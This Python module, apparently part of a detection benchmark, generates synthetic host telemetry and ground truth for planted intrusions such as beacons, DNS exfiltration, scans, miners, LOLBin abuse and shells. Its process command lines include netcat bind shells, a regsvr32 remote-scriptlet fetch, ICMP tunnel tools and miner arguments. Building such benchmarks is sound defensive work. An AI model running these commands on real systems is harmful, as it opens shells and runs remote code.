"""The planted anomalies (one class per detector, each on a few hosts of different OS and role), the benign
gap case, and the ground truth that names them.

These are a few thousand rows at most, so they are built in Python as row specs and handed to generate.py, which
inserts them beside the set-wise benign rows and derives every other column the same way for both.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from bench.score.catalogue import EXPLORER, ROLE_BY_NAME, Proc

WINDOW_S = 600


@dataclass
class Host:
    h: int
    name: str
    role: str
    os: str
    ip: str
    user: str
    windows: tuple[datetime, ...]  # start of each collection window


@dataclass
class Planted:
    """Row specs (dicts shaped like generate.py's spec tables) and the truth entries that describe them."""

    procs: list[Proc] = field(default_factory=list)
    connections: list[dict[str, Any]] = field(default_factory=list)
    listeners: list[dict[str, Any]] = field(default_factory=list)
    dns: list[dict[str, Any]] = field(default_factory=list)
    truth: list[dict[str, Any]] = field(default_factory=list)
    benign: list[dict[str, Any]] = field(default_factory=list)


def _b32(rng: random.Random, length: int) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(length))


class Planter:
    """Builds the planted rows for one fleet; every choice comes from one seeded RNG, so a seed fixes them all."""

    def __init__(self, hosts_by_role: dict[str, list[Host]], identity: Any, seed: int) -> None:
        self.by_role = hosts_by_role
        self.identity = identity  # orchestrator.schema.process_identity
        self.rng = random.Random(seed * 7919 + 17)
        self.out = Planted()
        self.used: set[int] = set()
        self.used_for: set[tuple[int, str]] = set()
        self.all_hosts = [h for hosts in hosts_by_role.values() for h in hosts]

    # ---- helpers
    def host(self, role: str, scenario: str) -> Host:
        """A random host of ``role``: one with no plant yet, else one without this scenario (a small fleet runs
        out of hosts, and two plants of one class on one host would share a process identity)."""
        pool = self.by_role[role]
        free = [h for h in pool if h.h not in self.used] \
            or [h for h in pool if (h.h, scenario) not in self.used_for] or pool
        host = self.rng.choice(free)
        self.used.add(host.h)
        self.used_for.add((host.h, scenario))
        return host

    def proc(self, host: Host, name: str, path: str | None, cmd: str, user: str | None = None,
             parent: tuple[str, str] | None = None) -> str:
        key = f"plant{len(self.out.procs)}"
        self.out.procs.append(Proc(key, host.os, name, path, cmd, user or host.user,
                                   parent[0] if parent else None, parent[1] if parent else None))
        return key

    def ident(self, host: Host, key: str) -> str:
        proc = next(p for p in self.out.procs if p.key == key)
        return str(self.identity(proc.path, proc.name, host.os))

    def conn(self, host: Host, proc: str, w: int, start: float, dur: float, remote_ip: str, remote_port: int | None,
             *, protocol: str = "tcp", state: str = "ESTABLISHED", direction: str = "outbound",
             local_port: int | None = None, stdio: bool | None = None, hostname: str | None = None) -> None:
        first = host.windows[w] + timedelta(milliseconds=round(start * 1000))
        self.out.connections.append({
            "h": host.h, "w": w, "proc": proc, "protocol": protocol, "remote_ip": remote_ip,
            "remote_port": remote_port, "state": state, "first_seen": first,
            "last_seen": first + timedelta(milliseconds=round(dur * 1000)), "direction": direction,
            "local_port": local_port, "stdio": stdio if host.os == "linux" else None, "remote_hostname": hostname})

    def truth(self, host: Host, proc: str, remote: str | None, scenario: str, techniques: list[str]) -> None:
        self.out.truth.append({"id": f"P{len(self.out.truth) + 1:02d}", "host": host.name, "role": host.role,
                               "os": host.os, "process_identity": self.ident(host, proc), "remote": remote,
                               "scenario": scenario, "techniques": techniques, "expect": "High"})

    def external(self, block: str = "203.0.113") -> str:
        return f"{block}.{self.rng.randint(2, 250)}"

    def ephemeral(self) -> int:
        return self.rng.randint(49152, 65000)

    # ---- the planted classes
    def backdoor(self, role: str) -> None:
        host = self.host(role, "backdoor")
        if host.os == "windows":
            path = rf"C:\Users\{host.user.split(chr(92))[-1]}\AppData\Roaming\Microsoft\Windows\svcupd.exe"
            key = self.proc(host, "svcupd.exe", path, f'"{path}" -k', parent=EXPLORER)
        else:
            path = "/tmp/.X11-unix/.Xsrv"
            key = self.proc(host, ".Xsrv", path, path, parent=("bash", "/usr/bin/bash"))
        ip, port = self.external(), self.rng.choice((4444, 50050, 1337))
        for w in range(3):
            for _ in range(3):
                self.conn(host, key, w, self.rng.uniform(0, WINDOW_S - 40), self.rng.uniform(5, 30), ip, port)
        self.truth(host, key, f"{ip}:{port}", "backdoor_c2_port", ["T1571"])

    def beacon(self, role: str) -> None:
        host = self.host(role, "beacon")
        if host.os == "windows":
            path = r"C:\ProgramData\Intel\IntelCpHDCPSvc2.exe"
            key = self.proc(host, "IntelCpHDCPSvc2.exe", path, f'"{path}"', "NT AUTHORITY\\SYSTEM",
                            ("services.exe", r"C:\Windows\System32\services.exe"))
        else:
            path = "/usr/local/bin/systemd-updated"
            key = self.proc(host, "systemd-updated", path, path, "root", ("systemd", "/usr/lib/systemd/systemd"))
        ip = self.external("198.51.100")
        for w in range(3):
            t = self.rng.uniform(0, 20)
            while t < WINDOW_S:  # every 60 s +/- 20 %
                self.conn(host, key, w, t, self.rng.uniform(0.2, 1.5), ip, 443, state="TIME_WAIT")
                t += 60 * self.rng.uniform(0.8, 1.2)
        self.truth(host, key, f"{ip}:443", "beacon_60s", ["T1071"])

    def icmp_tunnel(self, role: str) -> None:
        host = self.host(role, "icmp_tunnel")
        if host.os == "windows":
            path = r"C:\Users\Public\icmpsh.exe"
            key = self.proc(host, "icmpsh.exe", path, f"{path} -t 198.51.100.99 -d 500 -b 30 -s 128")
        else:
            path = "/var/tmp/.p/ptunnel"
            key = self.proc(host, "ptunnel", path, f"{path} -p 198.51.100.99 -lp 8000 -da 127.0.0.1 -dp 22", "root")
        ip = self.external("198.51.100")
        for w in range(3):
            self.conn(host, key, w, 0, WINDOW_S, ip, None, protocol="raw", state="PROTO_1")
        self.truth(host, key, ip, "icmp_tunnel", ["T1095"])

    def dns_exfil(self, role: str, domain: str) -> None:
        host = self.host(role, "dns_exfil")
        if host.os == "windows":
            path = rf"C:\Users\{host.user.split(chr(92))[-1]}\AppData\Local\Temp\msupd.exe"
            key = self.proc(host, "msupd.exe", path, f'"{path}" /sync')
        else:
            path = "/var/tmp/.cache/dnsupd"
            key = self.proc(host, "dnsupd", path, f"{path} -d {domain}", "root")
        direct = self.external("198.51.100")
        resolver = self.resolver(host)
        w = 1
        for i in range(300):
            server = direct if i % 3 == 0 else resolver
            ts = host.windows[w] + timedelta(milliseconds=round(i * 1700 + self.rng.uniform(0, 900)))
            self.out.dns.append({"h": host.h, "w": w, "proc": key, "query": f"{_b32(self.rng, 52)}.{i:x}.t.{domain}",
                                 "qtype": "TXT", "answers": [], "response_code": "NXDOMAIN", "server_ip": server,
                                 "timestamp": ts})
        for i in range(5):
            self.conn(host, key, w, i * 100.0, 1.0, direct, 53, protocol="udp", state="NONE")
        self.truth(host, key, domain, "dns_exfiltration", ["T1048.003", "T1071.004"])

    def internal_scan(self, role: str) -> None:
        host = self.host(role, "internal_scan")
        if host.os == "windows":
            path = rf"C:\Users\{host.user.split(chr(92))[-1]}\Downloads\netscan.exe"
            key = self.proc(host, "netscan.exe", path, f'"{path}" /hide /range:10.0.0.0-10.255.255.255 /auto:scan.xml',
                            parent=EXPLORER)
            ports = (445, 3389, 135, 139, 5985)
        else:
            path = "/tmp/.s/scan"
            key = self.proc(host, "scan", path, f"{path} -p22,80,443,3306,5432,6379 10.0.0.0/8", "www-data")
            ports = (22, 80, 443, 3306, 5432, 6379)
        targets = self.rng.sample([h for h in self.all_hosts if h.h != host.h], min(180, len(self.all_hosts) - 1))
        # and unused address space, where SYNs go unanswered
        dead = [f"10.{self.rng.randint(100, 250)}.{self.rng.randint(0, 255)}.{self.rng.randint(1, 254)}"
                for _ in range(max(60, 240 - len(targets)))]
        ips = [t.ip for t in targets] + dead
        for i, ip in enumerate(ips):
            for port in self.rng.sample(ports, 2):
                state = "SYN_SENT" if self.rng.random() < 0.6 else self.rng.choice(("CLOSE", "TIME_WAIT"))
                self.conn(host, key, 1, 30 + i * 1.5 + self.rng.uniform(0, 1), 0.1, ip, port, state=state)
        self.truth(host, key, None, "internal_scan", ["T1046"])

    def cryptominer(self, role: str) -> None:
        host = self.host(role, "cryptominer")
        ip, port = self.external(), self.rng.choice((3333, 14444, 5555))
        pool = "xmr-eu1.pool.example.org"
        wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
        args = f"-o stratum+tcp://{pool}:{port} -u {wallet} -p x --donate-level 1 -k --cpu-max-threads-hint 75"
        if host.os == "windows":
            path = r"C:\Users\Public\Libraries\svchost.exe"  # a miner masquerading under a system name
            key = self.proc(host, "svchost.exe", path, f"{path} {args}",
                            parent=("cmd.exe", r"C:\Windows\System32\cmd.exe"))
        else:
            path = "/dev/shm/.x/kthreadd"
            key = self.proc(host, "kthreadd", path, f"{path} {args}", "jenkins", ("bash", "/usr/bin/bash"))
        for w in range(3):
            self.conn(host, key, w, -1800.0, 1800 + WINDOW_S, ip, port, hostname=pool)
            ts = host.windows[w] - timedelta(minutes=30)
            self.out.dns.append({"h": host.h, "w": w, "proc": key, "query": pool, "qtype": "A", "answers": [ip],
                                 "response_code": "NOERROR", "server_ip": self.resolver(host), "timestamp": ts})
        self.truth(host, key, f"{ip}:{port}", "cryptominer", ["T1496"])

    def lolbin(self, role: str, binary: str) -> None:
        host = self.host(role, "lolbin")
        user_dir = host.user.split(chr(92))[-1]
        target = self.rng.choice([h for h in self.all_hosts if h.h != host.h])
        path = rf"C:\Windows\System32\{binary}"
        cmd = (rf"rundll32.exe C:\Users\{user_dir}\AppData\Local\Temp\upd.dll,DllRegisterServer"
               if binary == "rundll32.exe" else rf"regsvr32.exe /s /n /u /i:http://{target.ip}:8444/a.sct scrobj.dll")
        key = self.proc(host, binary, path, cmd,
                        parent=("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"))
        for i in range(3):
            self.conn(host, key, 2, 100 + i * 90 + self.rng.uniform(0, 30), 4.0, target.ip, 8444)
        self.truth(host, key, f"{target.ip}:8444", f"lolbin_{binary.split('.')[0]}", ["T1218"])

    def reverse_shell(self, role: str) -> None:
        host = self.host(role, "reverse_shell")
        # a web shell's child, or a deserialisation bug in a JVM service, or a poisoned CI job
        parent, user = {"web": (("php-fpm8.2", "/usr/sbin/php-fpm8.2"), "www-data"),
                        "app": (("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"), "orders")}.get(
                            role, (("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"), "jenkins"))
        key = self.proc(host, "bash", "/usr/bin/bash", "bash -i", user, parent)
        ip = self.external()
        for w in (1, 2):
            self.conn(host, key, w, self.rng.uniform(0, 200) if w == 1 else -3000.0, WINDOW_S, ip, 9001, stdio=True)
        self.truth(host, key, f"{ip}:9001", "reverse_shell", ["T1059"])

    def bind_shell(self, role: str) -> None:
        host = self.host(role, "bind_shell")
        if host.os == "windows":
            path = r"C:\Users\Public\nc.exe"
            key = self.proc(host, "nc.exe", path, f"{path} -l -p 31337 -e cmd.exe")
        else:
            path = "/tmp/.ICE-unix/.b/bd"
            key = self.proc(host, "bd", path, f"{path} -l -p 31337 -e /bin/sh", "www-data" if role == "web" else "root")
        for w in (1, 2):
            self.out.listeners.append({"h": host.h, "w": w, "proc": key, "protocol": "tcp", "local_ip": "0.0.0.0",
                                       "local_port": 31337})
        self.conn(host, key, 2, 240.0, 300.0, self.external("198.51.100"), self.ephemeral(), direction="inbound",
                  local_port=31337, stdio=True)
        self.truth(host, key, "31337", "bind_shell", ["T1059", "T1571"])

    def implant(self, role: str) -> None:
        host = self.host(role, "implant")
        path = r"C:\Windows\System32\notepad.exe"
        key = self.proc(host, "notepad.exe", path, "notepad.exe", parent=EXPLORER)
        target = self.rng.choice([h for h in self.all_hosts if h.h != host.h])
        for w in range(3):
            for _ in range(2):
                self.conn(host, key, w, self.rng.uniform(0, WINDOW_S - 30), 20.0, target.ip, 888)
        self.truth(host, key, f"{target.ip}:888", "process_injection", ["T1055"])

    # ---- the benign gap case
    def gap_case(self, role: str) -> None:
        """A program with two connections in each of three windows 4 h apart: few, spread, and not a beacon."""
        host = self.host(role, "gap_case")
        if host.os == "windows":
            key = self.proc(host, "AdobeARM.exe", r"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe",
                            r'"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe" /ArmUpdate')
            ip = "23.52.41.17"
        else:
            key = self.proc(host, "snapd", "/usr/lib/snapd/snapd", "/usr/lib/snapd/snapd", "root")
            ip = "185.125.188.58"
        for w in range(3):
            for t in (60.0, 180.0):
                self.conn(host, key, w, t, 2.0, ip, 443, state="TIME_WAIT")
        self.out.benign.append({"name": "gap_case", "hosts": [host.name], "process_identity": [self.ident(host, key)],
                                "remote": f"{ip}:443",
                                "why": "two connections in each of three collection windows 4 h apart: the gaps "
                                       "are whole multiples of the 120 s spacing, so folding reads them as missed "
                                       "check-ins"})

    def resolver(self, host: Host) -> str:
        dcs = self.by_role["dc"]
        return dcs[host.h % len(dcs)].ip

    def plant_all(self) -> Planted:
        """Every class on hosts of different OS and role; the gap case on three hosts."""
        for role in ("lnxws", "web", "winws"):
            self.backdoor(role)
        for role in ("winws", "app", "lnxws"):
            self.beacon(role)
        for role in ("lnxws", "build", "winws"):
            self.icmp_tunnel(role)
        for role, domain in (("lnxws", "example.net"), ("winws", "example.org"), ("db", "example.com")):
            self.dns_exfil(role, domain)
        for role in ("winws", "lnxws", "winsrv"):
            self.internal_scan(role)
        for role in ("build", "winws", "lnxws"):
            self.cryptominer(role)
        for role, binary in (("winws", "rundll32.exe"), ("winws", "regsvr32.exe"), ("winsrv", "rundll32.exe")):
            self.lolbin(role, binary)
        for role in ("web", "app", "build"):
            self.reverse_shell(role)
        for role in ("web", "db", "winsrv"):
            self.bind_shell(role)
        for role in ("winws", "winws", "winsrv"):
            self.implant(role)
        for role in ("winws", "lnxws", "winws"):
            self.gap_case(role)
        return self.out


def role_os(role: str) -> str:
    return ROLE_BY_NAME[role].os
